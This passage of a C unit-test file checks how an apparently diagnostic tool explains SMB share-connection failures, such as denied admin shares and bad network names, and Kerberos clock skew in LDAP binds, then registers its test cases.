		{ "\\\\fs1\\C$", 0xC0000022u, "admin-share-denied" },
		{ "\\\\fs1\\ADMIN$", 0xC0000022u, "admin-share-denied" },
		{ "\\\\fs1\\data", 0xC0000022u, "access-denied" },
		{ "\\\\fs1\\nosuch", 0xC00000CCu, "bad-network-name" },
		{ "\\\\fs1\\data", 0xC00000C9u, "other" },
		{ "\\\\fs1\\data", 0, NULL },
	};
	for (size_t i = 0; i < sizeof want / sizeof want[0]; i++) {
		struct kf_result *r = fx_new();
		ntlm_logon(r, 3, 1, C, "LAB", "bob", 0, 0);
		tree(r, 7, 1, C, want[i].path, want[i].status);
		fx_finish(r);
		fx_run(r, "smb-tree-connect-failed");
		if (!want[i].cause) {
			ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
			fx_free(r);
			continue;
		}
		char server[64];
		snprintf(server, sizeof server, "10.0.0.30:445,%s", want[i].path);
		const struct kf_finding *f =
			fx_expect(r, &(struct fx_want){ .rule = "smb-tree-connect-failed",
							.cause = want[i].cause,
							.sev = KF_SEV_WARNING,
							.conf = KF_CONF_CERTAIN,
							.frames = "6,7,8",
							.user = "LAB\\bob",
							.server = server });
		/* wording: the logon worked, the share is what failed */
		ck_assert(contains(f->explanation, "Authentication is not what failed"));
		fx_free(r);
	}
}
END_TEST

/* The same skew inside an LDAP bind: worded for LDAP, and a bind the
 * server accepts later on the connection is a recovery (warning); a
 * refused one is not. */
START_TEST(t_ldap_skew_worded_and_recovered)
{
	for (int ok = 0; ok < 2; ok++) {
		struct kf_result *r = fx_new();
		struct kf_message *ap = fx_msg(r, 3, KF_CARRIER_LDAP, KF_KRB_AP_REQ, C, "10.0.0.30:389");
		ap->connection = 1;
		ap->krb.ticket = fx_ticket(r, "ldap/dc1.lab.test", "LAB.TEST", 18, 3);
		struct kf_message *e = fx_msg(r, 4, KF_CARRIER_LDAP, KF_KRB_ERROR, "10.0.0.30:389", C);
		e->connection = 1;
		e->krb.error_code = 37;
		e->krb.sname = "DC1$";
		e->krb.realm = "LAB.TEST";
		e->krb.has_stime = true;
		e->krb.stime = T0 + 600;
		fx_link(r, 3, KF_KRB_AP_REQ, 4, KF_KRB_ERROR);
		struct kf_message *b =
			fx_msg(r, 6, KF_CARRIER_LDAP, KF_MSG_LDAP_RESPONSE, "10.0.0.30:389", C);
		b->connection = 1;
		b->ldap = kf_arena_zalloc(&r->arena, sizeof(*b->ldap));
		b->ldap->operation = 1;
		b->ldap->has_result = true;
		b->ldap->result_code = ok ? 0 : 49;
		fx_finish(r);
		fx_run(r, "clock-skew");
		const struct kf_finding *f = fx_find(r, "clock-skew");
		ck_assert_ptr_nonnull(f);
		ck_assert_int_eq(f->severity, ok ? KF_SEV_INFO : KF_SEV_ERROR);
		if (!ok) /* where the client will find the error, while it is not recovered */
			ck_assert(contains(f->explanation, "the LDAP bindResponse carries the error"));
		fx_free(r);
	}
}
END_TEST

int main(void)
{
	Suite *s = suite_create("rules_smb");
	TCase *tc = tcase_create("kerberos-errors-in-smb");
	tcase_add_test(tc, t_smb_skew_words);
	tcase_add_test(tc, t_smb_skew_sender_within_tolerance);
	tcase_add_test(tc, t_smb_skew_recovered);
	tcase_add_test(tc, t_ldap_skew_worded_and_recovered);
	tcase_add_test(tc, t_smb_not_us_words);
	tcase_add_test(tc, t_smb_ap_err_modified_words);
	suite_add_tcase(s, tc);
	TCase *nt = tcase_create("ntlm-fallback-smb");
	tcase_add_test(nt, t_smb_ntlm_ip_address);
	tcase_add_test(nt, t_smb_ntlm_spn_unknown);
	tcase_add_test(nt, t_smb_ntlm_kdc_error);
	tcase_add_test(nt, t_smb_ntlm_local_account);
	tcase_add_test(nt, t_smb_ntlm_ticket_not_used);
	tcase_add_test(nt, t_smb_ntlm_app_chose);
	tcase_add_test(nt, t_smb_ntlm_no_server_name);
	tcase_add_test(nt, t_smb_ntlm_no_kdc_or_no_request);
	tcase_add_test(nt, t_smb_ntlm_near_misses);
	suite_add_tcase(s, nt);
	TCase *sf = tcase_create("smb-session-and-share");
	tcase_add_test(sf, t_smb_session_causes);
	tcase_add_test(sf, t_smb_session_fix_names);
	tcase_add_test(sf, t_smb_session_kerberos_refused);
	tcase_add_test(sf, t_smb_session_smb1);
	tcase_add_test(sf, t_smb_session_anonymous);
	tcase_add_test(sf, t_smb_session_grouped_and_recovered);
	tcase_add_test(sf, t_smb_session_near_misses);
	tcase_add_test(sf, t_smb_tree_causes);
	suite_add_tcase(s, sf);
	return kf_test_run(s);
}
